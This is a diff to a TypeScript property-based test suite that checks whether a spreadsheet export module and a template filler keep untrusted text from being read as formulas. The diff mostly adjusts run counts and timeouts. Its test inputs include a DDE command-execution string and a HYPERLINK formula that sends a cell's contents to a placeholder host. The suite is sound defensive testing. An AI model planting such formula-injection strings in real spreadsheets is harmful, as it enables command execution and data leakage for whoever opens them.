@@ -7,7 +7,8 @@ import { workbookSpec, type CellSpec } from '@shared/ipc/workbook'
 import { fillTemplate } from './template'
 import { drawWorkbook } from './workbook'
 
-const RUNS = Number(process.env['WENXIN_FUZZ_RUNS'] ?? 25)
+const RUNS = Math.ceil(Number(process.env['WENXIN_FUZZ_RUNS'] ?? 250) / 10)
+const TIMEOUT = 60_000 + RUNS * 1_000
 const STORIES = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://a.example/?"&A1,"点这里")',
@@ -65,68 +66,76 @@ async function sheetOf(bytes: Uint8Array): Promise<ExcelJS.Worksheet> {
 
 /** Every table that is exported is drawn by this one module, every form of the office is filled by the other. */
 describe('a text that a spreadsheet would take for a formula', () => {
-  it('is a text in every table, wherever it stands and whatever its style', async () => {
-    const styles = [
-      'title',
-      'meta',
-      'metaRight',
-      'head',
-      'headVertical',
-      'unit',
-      'label',
-      'number',
-      'text',
-      'total',
-      'note'
-    ]
-    const style = fc.constantFrom(...(styles as CellSpec['style'][]))
-    const cells = fc.array(fc.tuple(text, style), { minLength: 1, maxLength: 12 })
-    await fc.assert(
-      fc.asyncProperty(cells, text, async (list, title) => {
-        const made = list.map(([value, look], at): CellSpec => ({
-          row: at + 1,
-          column: 1,
-          value,
-          style: look
-        }))
-        const sheet = {
-          ...{ name: '表', columnWidths: [20], rowHeights: [], cells: made, landscape: false },
-          ...{ repeatRows: null, freeze: null }
-        }
-        const spec = workbookSpec.parse({ title: title.slice(0, 200), sheets: [sheet] })
-        const bytes = await drawWorkbook(spec)
-        isInert(bytes)
-        const read = await sheetOf(bytes)
-        for (const [at, [value]] of list.entries()) {
-          const cell = read.getCell(at + 1, 1)
-          expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Null]).toContain(cell.type)
-          // The library itself reads such groups as characters; an office suite shows them as they are.
-          if (!/_x[0-9a-f]{4}_/i.test(value)) expect(cell.value ?? '').toBe(kept(value))
-        }
-      }),
-      { numRuns: RUNS }
-    )
-  })
+  it(
+    'is a text in every table, wherever it stands and whatever its style',
+    async () => {
+      const styles = [
+        'title',
+        'meta',
+        'metaRight',
+        'head',
+        'headVertical',
+        'unit',
+        'label',
+        'number',
+        'text',
+        'total',
+        'note'
+      ]
+      const style = fc.constantFrom(...(styles as CellSpec['style'][]))
+      const cells = fc.array(fc.tuple(text, style), { minLength: 1, maxLength: 12 })
+      await fc.assert(
+        fc.asyncProperty(cells, text, async (list, title) => {
+          const made = list.map(([value, look], at): CellSpec => ({
+            row: at + 1,
+            column: 1,
+            value,
+            style: look
+          }))
+          const sheet = {
+            ...{ name: '表', columnWidths: [20], rowHeights: [], cells: made, landscape: false },
+            ...{ repeatRows: null, freeze: null }
+          }
+          const spec = workbookSpec.parse({ title: title.slice(0, 200), sheets: [sheet] })
+          const bytes = await drawWorkbook(spec)
+          isInert(bytes)
+          const read = await sheetOf(bytes)
+          for (const [at, [value]] of list.entries()) {
+            const cell = read.getCell(at + 1, 1)
+            expect([ExcelJS.ValueType.String, ExcelJS.ValueType.Null]).toContain(cell.type)
+            // The library itself reads such groups as characters; an office suite shows them as they are.
+            if (!/_x[0-9a-f]{4}_/i.test(value)) expect(cell.value ?? '').toBe(kept(value))
+          }
+        }),
+        { numRuns: RUNS }
+      )
+    },
+    TIMEOUT
+  )
 
-  it('is a text in the office’s own form, whose own formulas stay', async () => {
-    const book = new ExcelJS.Workbook()
-    const form = book.addWorksheet('汇总')
-    form.getCell('A1').value = '姓名'
-    form.getCell('B9').value = { formula: 'SUM(B1:B8)', result: 0 }
-    const blank = new Uint8Array(await book.xlsx.writeBuffer())
-    await fc.assert(
-      fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 6 }), async (list) => {
-        const values = list.map((value, at) => ({ sheet: '汇总', cell: `A${at + 2}`, value }))
-        const bytes = fillTemplate(blank, values)
-        isInert(bytes, 1)
-        const read = await sheetOf(bytes)
-        for (const [at, value] of list.entries()) {
-          const { type, value: found } = read.getCell(`A${at + 2}`)
-          expect(type).not.toBe(ExcelJS.ValueType.Formula)
-          if (!/_x[0-9a-f]{4}_/i.test(value)) expect(found ?? '').toBe(kept(value))
-        }
-      }),
-      { numRuns: RUNS }
-    )
-  })
+  it(
+    'is a text in the office’s own form, whose own formulas stay',
+    async () => {
+      const book = new ExcelJS.Workbook()
+      const form = book.addWorksheet('汇总')
+      form.getCell('A1').value = '姓名'
+      form.getCell('B9').value = { formula: 'SUM(B1:B8)', result: 0 }
+      const blank = new Uint8Array(await book.xlsx.writeBuffer())
+      await fc.assert(
+        fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 6 }), async (list) => {
+          const values = list.map((value, at) => ({ sheet: '汇总', cell: `A${at + 2}`, value }))
+          const bytes = fillTemplate(blank, values)
+          isInert(bytes, 1)
+          const read = await sheetOf(bytes)
+          for (const [at, value] of list.entries()) {
+            const { type, value: found } = read.getCell(`A${at + 2}`)
+            expect(type).not.toBe(ExcelJS.ValueType.Formula)
+            if (!/_x[0-9a-f]{4}_/i.test(value)) expect(found ?? '').toBe(kept(value))
+          }
+        }),
+        { numRuns: RUNS }
+      )
+    },
+    TIMEOUT
+  )
 })
